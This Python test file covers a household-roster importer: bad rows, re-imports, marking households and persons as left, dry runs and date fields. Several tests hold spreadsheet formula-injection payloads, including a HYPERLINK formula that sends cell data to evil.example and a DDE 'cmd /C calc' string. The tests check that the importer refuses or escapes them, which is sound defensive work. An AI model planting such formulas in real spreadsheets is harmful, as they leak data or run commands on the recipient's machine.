"""Roster import: the template, bad rows, idempotent re-import, a newer roster."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.domain.policy import VisitPolicy
from app.domain.records import Person
from sync.server.services import roster
from sync.server.tables import RecordRow

TEMPLATES = Path(__file__).parents[2] / "assets" / "templates"
POLICY = VisitPolicy.model_validate_json(
    (TEMPLATES.parent / "policy" / "visit_policy.json").read_text(encoding="utf-8")
)


def write_csv(path: Path, rows: list[tuple[str, ...]]) -> Path:
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(roster.COLUMNS)
        writer.writerows(rows)
    return path


def records(ctx, record_type: str) -> list[dict]:  # type: ignore[type-arg]
    with ctx.db.reading() as s:
        rows = s.execute(select(RecordRow.data).where(RecordRow.type == record_type)).scalars()
        return [json.loads(r) for r in rows]


def head_seq(ctx) -> int:  # type: ignore[no-untyped-def]
    from sync.server.db import current_seq

    with ctx.db.reading() as s:
        return current_seq(s)


def test_the_templates_have_the_importers_headers():
    with open(TEMPLATES / "roster_template.csv", encoding="utf-8-sig") as fh:
        assert tuple(next(csv.reader(fh))) == roster.COLUMNS
    sheet = load_workbook(TEMPLATES / "roster_template.xlsx", read_only=True).worksheets[0]
    assert tuple(next(sheet.iter_rows(values_only=True))) == roster.COLUMNS
    documented = (TEMPLATES / "roster.md").read_text(encoding="utf-8")
    assert all(f"| {column} |" in documented for column in roster.COLUMNS)


@pytest.mark.parametrize("name", ["roster_template.csv", "roster_template.xlsx"])
def test_the_template_imports_and_again_changes_nothing(ctx, name):
    first = roster.import_roster(ctx, TEMPLATES / name)
    assert (first.households_created, first.persons_created) == (1, 2)
    seq = head_seq(ctx)
    again = roster.import_roster(ctx, TEMPLATES / name)
    assert again.unchanged == 3 and head_seq(ctx) == seq
    [household] = records(ctx, "household")
    assert household["categories"] == ["dibao", "left_behind_child"]
    elder = next(p for p in records(ctx, "person") if p["relation"] == "户主")
    assert elder["flags"] == ["elderly_alone"] and elder["lives_alone"] is True


def test_every_bad_row_is_reported_and_nothing_is_imported(ctx, tmp_path):
    path = write_csv(
        tmp_path / "bad.csv",
        [
            ("H1", "330702102201", "甲村1号", "", "低保", "", "", "张三", "", "", "", "", ""),
            ("H2", "12345", "乙村2号", "", "", "", "", "李四", "", "", "", "", ""),
            ("H3", "330702102201", "丙村3号", "", "富豪", "", "", "王五", "", "", "", "", ""),
            ("H4", "330702102201", "", "", "", "", "", "赵六", "", "", "", "", ""),
            ("H5", "330702102201", "丁村", "", "", "2024-13-40", "", "钱七", "", "", "", "", ""),
            (
                "H6",
                "330702102201",
                "戊村",
                "",
                "",
                "",
                "",
                "孙八",
                "330702195503120022",
                "",
                "",
                "",
                "",
            ),
            ("H1", "330702102202", "甲村1号", "", "低保", "", "", "张四", "", "", "", "", ""),
        ],
    )
    with pytest.raises(roster.RosterInvalid) as caught:
        roster.import_roster(ctx, path)
    rows = [row for row, _ in caught.value.problems]
    assert rows == [3, 4, 5, 6, 7, 8]
    reasons = dict(caught.value.problems)
    assert "富豪" in reasons[4] and "家庭住址" in reasons[5] and "第 2 行" in reasons[8]
    assert records(ctx, "household") == []


def test_a_newer_roster_updates_and_records_who_left(ctx, tmp_path):
    old = write_csv(
        tmp_path / "2024.csv",
        [
            ("H1", "330702102201", "甲村1号", "", "低保", "", "", "张三", "", "", "", "", ""),
            ("H2", "330702102201", "乙村2号", "", "特困供养", "", "", "李四", "", "", "", "", ""),
            ("X9", "330703101201", "外镇9号", "", "低保", "", "", "王九", "", "", "", "", ""),
        ],
    )
    roster.import_roster(ctx, old, today=date(2024, 1, 1))
    new = write_csv(
        tmp_path / "2025.csv",
        [("H1", "330702102201", "甲村1号（新）", "", "低保", "", "", "张三", "", "", "", "", "")],
    )
    report = roster.import_roster(ctx, new, today=date(2025, 2, 1), confirm_leavers=True)
    assert (report.households_updated, report.households_left, report.left) == (1, 1, ["H2"])
    assert [(t.township, t.households, t.leaving) for t in report.leavers] == [("330702102", 2, 1)]
    by_address = {h["address"]: h for h in records(ctx, "household")}
    assert by_address["乙村2号"]["register_status"] == "left"
    assert by_address["乙村2号"]["left_on"] == "2025-02-01"
    assert by_address["外镇9号"]["register_status"] == "registered"  # other township: untouched
    assert "甲村1号（新）" in by_address
    back = roster.import_roster(ctx, old, today=date(2025, 3, 1))
    assert back.households_updated == 2  # H2 rejoined, H1's address back
    assert {h["register_status"] for h in records(ctx, "household")} == {"registered"}


def test_a_damaged_spreadsheet_is_one_clear_problem(ctx, tmp_path):
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a workbook")
    with pytest.raises(roster.RosterInvalid, match="未导入"):
        roster.import_roster(ctx, broken)


def test_persons_no_longer_listed_in_a_listed_household_leave_and_can_return(ctx, tmp_path):
    def row(key: str, address: str, name: str, id_number: str = "") -> tuple[str, ...]:
        return (key, "330702102201", address, "", "低保", "", "", name, id_number, "", "", "", "")

    full = write_csv(
        tmp_path / "2024.csv",
        [
            row("H1", "甲村1号", "张三", "330702195503120021"),
            row("H1", "甲村1号", "张小三"),
            row("H1", "甲村1号", "张二"),
            row("H2", "乙村2号", "李四"),
        ],
    )
    roster.import_roster(ctx, full, today=date(2024, 1, 1))
    h1 = next(h for h in records(ctx, "household") if h["address"] == "甲村1号")
    # A member a worker added on a device was never on the roster: not the roster's to remove.
    from sync.server.services.feed import Feed

    with ctx.db.writing() as s:
        feed = Feed(s)
        added = Person(area_code="330702102201", household_id=h1["id"], name="张新生")
        feed.insert("person", added.model_dump(mode="json"), {"*": ["0", feed.last + 1, "d"]})
        feed.close()
    newer = write_csv(
        tmp_path / "2025.csv",
        [row("H1", "甲村1号", "张三", "330702195503120021"), row("H2", "乙村2号", "李四")],
    )
    report = roster.import_roster(ctx, newer, today=date(2025, 2, 1))
    assert (report.persons_left, report.households_left, report.unchanged) == (2, 0, 4)
    assert sorted(report.persons_gone) == ["H1/张二", "H1/张小三"]
    assert "人员退出 2 人" in report.one_line()
    left_on = {p["name"]: p.get("left_on") for p in records(ctx, "person")}
    assert left_on == {
        "张三": None,
        "张小三": "2025-02-01",
        "张二": "2025-02-01",
        "李四": None,
        "张新生": None,
    }
    seq = head_seq(ctx)
    same = roster.import_roster(ctx, newer, today=date(2025, 3, 1))
    assert (same.persons_left, same.unchanged) == (0, 4) and head_seq(ctx) == seq
    assert "人员退出 0 人" in same.one_line()
    back = roster.import_roster(ctx, full, today=date(2025, 4, 1))
    assert (back.persons_updated, back.persons_left) == (2, 0)
    assert all(p.get("left_on") is None for p in records(ctx, "person"))


def test_a_device_receives_the_persons_who_left(ctx, make_device, tmp_path):
    device = make_device()
    rows = [
        ("H1", "330702102201", "甲村1号", "", "低保", "", "", name, "", "", "", "", "")
        for name in ("王一", "王二")
    ]
    roster.import_roster(ctx, write_csv(tmp_path / "a.csv", rows), today=date(2024, 1, 1))
    device.sync()
    roster.import_roster(ctx, write_csv(tmp_path / "b.csv", rows[:1]), today=date(2025, 1, 1))
    device.sync()
    by_name = {p.name: p for p in device.store.load_all(Person)}
    assert by_name["王二"].left_on == date(2025, 1, 1) and by_name["王一"].left_on is None


LINK = '=HYPERLINK("http://evil.example/?d="&C5,"点击查看详情")'


def test_a_cell_a_spreadsheet_would_run_is_refused_with_its_row_and_column(ctx, tmp_path):
    def row(key: str, address: str, name: str, phone: str = "") -> tuple[str, ...]:
        return (key, "330702102201", address, phone, "低保", "", "", name, "", "", "", "", "")

    path = write_csv(
        tmp_path / "hostile.csv",
        [
            row("H1", "甲村1号", LINK),
            row("H2", "@SUM(1+1)*cmd|' /C calc'!A0", "李四"),
            row("H3", "丙村3号", "王五", phone="+86 139 0579 1234"),  # a phone, not a formula
            row("+H4", "丁村4号", "赵六"),
            row("H5", "戊村5号", "钱七", phone="-"),  # a dash is not a formula: a bad phone
        ],
    )
    with pytest.raises(roster.RosterInvalid) as caught:
        roster.import_roster(ctx, path)
    reasons = dict(caught.value.problems)
    assert sorted(reasons) == [2, 3, 5, 6]
    assert "「姓名」" in reasons[2] and "公式" in reasons[2]
    assert "「家庭住址」" in reasons[3] and "公式" in reasons[3]
    assert "「户编号」" in reasons[5] and "公式" in reasons[5]
    assert "公式" not in reasons[6] and "电话" in reasons[6]
    assert records(ctx, "household") == []


def test_a_formula_typed_into_an_xlsx_roster_is_refused(ctx, tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(list(roster.COLUMNS))
    sheet.append(["H1", "330702102201", "甲村1号", "", "低保", "", "", "张三", "", "", "", "", ""])
    sheet.append(["H2", "330702102201", "乙村2号", "", "低保", "", "", "李四", "", "", "", "", ""])
    sheet["H3"].value = LINK
    sheet["H3"].data_type = "s"  # stored as text, as a register exported by another system
    book.save(tmp_path / "hostile.xlsx")
    with pytest.raises(roster.RosterInvalid) as caught:
        roster.import_roster(ctx, tmp_path / "hostile.xlsx")
    assert [row for row, _ in caught.value.problems] == [3]


def test_the_templates_are_written_with_no_cell_that_runs(tmp_path, monkeypatch):
    hostile = (("H1", "330702102201", LINK, *roster.EXAMPLE_ROWS[0][3:]),)
    monkeypatch.setattr(roster, "EXAMPLE_ROWS", hostile)
    csv_path, xlsx_path = roster.write_templates(tmp_path)
    with open(csv_path, encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][2] == "'" + LINK
    sheet = load_workbook(xlsx_path).worksheets[0]
    assert (sheet["C2"].value, sheet["C2"].data_type, sheet["C2"].quotePrefix) == (LINK, "s", True)


# --- a roster cut short: every row read, leavers confirmed, a dry run first -------------------


def household_rows(n: int, village: str = "330702102201") -> list[tuple[str, ...]]:
    """`n` one-person households of one village, keys H001…"""
    return [
        (
            f"H{i:03d}",
            village,
            f"甲村{i}号",
            "",
            "低保",
            "",
            "",
            f"住户{i}",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
        )
        for i in range(1, n + 1)
    ]


def write_xlsx(path: Path, rows: list[tuple[str, ...]], *, declared: str | None = None) -> Path:
    """A real workbook; `declared` overwrites the size its sheet claims (<dimension ref>)."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(list(roster.COLUMNS))
    for row in rows:
        sheet.append(list(row))
    book.save(path)
    if declared is not None:
        crafted = path.read_bytes()
        with zipfile.ZipFile(path) as src:
            items = [(item, src.read(item.filename)) for item in src.infolist()]
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
            for item, data in items:
                if item.filename == "xl/worksheets/sheet1.xml":
                    data, n = re.subn(
                        rb'<dimension ref="[^"]*"\s*/>',
                        f'<dimension ref="{declared}"/>'.encode(),
                        data,
                    )
                    assert n == 1
                out.writestr(item, data)
        assert path.read_bytes() != crafted
    return path


def test_an_xlsx_that_understates_its_size_is_read_to_its_last_row(ctx, tmp_path):
    rows = household_rows(30)
    first = roster.import_roster(ctx, write_xlsx(tmp_path / "a.xlsx", rows))
    assert first.households_created == 30
    crafted = write_xlsx(tmp_path / "b.xlsx", rows, declared="A1:B3")
    table = roster.read_table(crafted)
    assert len(table) == 31 and all(len(r) == len(roster.COLUMNS) for r in table)
    seq = head_seq(ctx)
    again = roster.import_roster(ctx, crafted, today=date(2026, 1, 1))
    assert (again.households_left, again.unchanged, again.leavers) == (0, 60, [])
    assert head_seq(ctx) == seq
    assert {h["register_status"] for h in records(ctx, "household")} == {"registered"}


def test_marking_more_than_the_policy_share_of_a_township_as_left_needs_confirming(ctx, tmp_path):
    rows = household_rows(20)
    roster.import_roster(ctx, write_csv(tmp_path / "all.csv", rows), today=date(2025, 1, 1))
    # One household of twenty (5 %, the policy's share) leaving goes through as it is.
    one_fewer = write_csv(tmp_path / "19.csv", rows[:19])
    report = roster.import_roster(ctx, one_fewer, today=date(2025, 2, 1))
    assert report.left == ["H020"] and report.over_limit() == []
    # A file cut after ten rows would empty half the township: refused, nothing changes.
    cut = write_csv(tmp_path / "10.csv", rows[:10])
    seq = head_seq(ctx)
    with pytest.raises(roster.LeaversUnconfirmed) as refused:
        roster.import_roster(ctx, cut, today=date(2025, 3, 1))
    assert "--confirm-leavers" in str(refused.value) and "5%" in str(refused.value)
    assert refused.value.lines() == ["乡镇（街道） 330702102：19 户中 9 户（47.4%）标记为退出在册"]
    assert head_seq(ctx) == seq
    assert sum(h["register_status"] == "left" for h in records(ctx, "household")) == 1
    # A county whose policy allows more, or a clerk who confirms, imports it.
    lenient = VisitPolicy.model_validate(
        {**POLICY.model_dump(), "roster_leavers_confirm_percent": 50}
    )
    allowed = roster.import_roster(ctx, cut, today=date(2025, 3, 1), policy=lenient, dry_run=True)
    assert (allowed.households_left, allowed.over_limit()) == (9, []) and head_seq(ctx) == seq
    confirmed = roster.import_roster(ctx, cut, today=date(2025, 3, 1), confirm_leavers=True)
    assert confirmed.households_left == 9
    # The same file again changes nothing and needs no confirmation.
    seq = head_seq(ctx)
    again = roster.import_roster(ctx, cut, today=date(2025, 4, 1))
    assert (again.households_left, again.unchanged) == (0, 20) and head_seq(ctx) == seq


def test_a_dry_run_reports_what_would_change_and_writes_nothing(ctx, tmp_path):
    path = write_csv(tmp_path / "roster.csv", household_rows(3))
    seq = head_seq(ctx)
    rehearsal = roster.import_roster(ctx, path, dry_run=True)
    assert rehearsal.one_line().startswith("试运行（未写入）：新增 3 户、3 人")
    assert records(ctx, "household") == [] and head_seq(ctx) == seq
    real = roster.import_roster(ctx, path)
    assert real.one_line() == rehearsal.one_line().removeprefix("试运行（未写入）：")
    assert len(records(ctx, "household")) == 3


def dated_row(key: str, categories: str, exited: str = "", event: str = "", name: str = "张三"):  # type: ignore[no-untyped-def]
    return (
        key, "330702102201", "甲村1号", "", categories, "", "", name, "", "", "", "", "",
        exited, "", "", event,
    )  # fmt: skip


def test_exit_and_major_event_dates_come_from_the_roster_or_the_import_day(ctx, tmp_path):
    """The roster's 退出救助日期 and 重大变故日期 are kept; a category that expires with no date
    gets the import day, and a later import keeps that first day; an event brought by the
    roster is recorded on the import day, so its three days start then."""
    first = write_csv(
        tmp_path / "first.csv",
        [
            dated_row("H1", "近3年退出救助", exited="2024-07-01", event="2026-11-20"),
            dated_row("H2", "临时救助、申请未通过", name="李四"),
        ],
    )
    roster.import_roster(ctx, first, today=date(2026, 12, 1))
    by_address = {h["categories"][0]: h for h in records(ctx, "household")}
    assert by_address["exited"]["exited_on"] == "2024-07-01"
    assert by_address["temporary_aid"]["temporary_aid_on"] == "2026-12-01"
    assert by_address["temporary_aid"]["rejected_on"] == "2026-12-01"
    [zhang] = [p for p in records(ctx, "person") if p["name"] == "张三"]
    assert (zhang["major_event_date"], zhang["major_event_recorded_on"]) == (
        "2026-11-20",
        "2026-12-01",
    )
    again = roster.import_roster(ctx, first, today=date(2027, 1, 5))
    assert again.unchanged == 4
    temporary = next(h for h in records(ctx, "household") if "temporary_aid" in h["categories"])
    assert temporary["temporary_aid_on"] == "2026-12-01"


def test_a_bad_exit_date_is_a_bad_row(ctx, tmp_path):
    path = write_csv(tmp_path / "bad.csv", [dated_row("H1", "近3年退出救助", exited="2024-13-01")])
    with pytest.raises(roster.RosterInvalid) as refused:
        roster.import_roster(ctx, path)
    assert refused.value.lines() == [
        "第 2 行：退出救助日期「2024-13-01」不是有效日期（如 2024-05-01）"
    ]
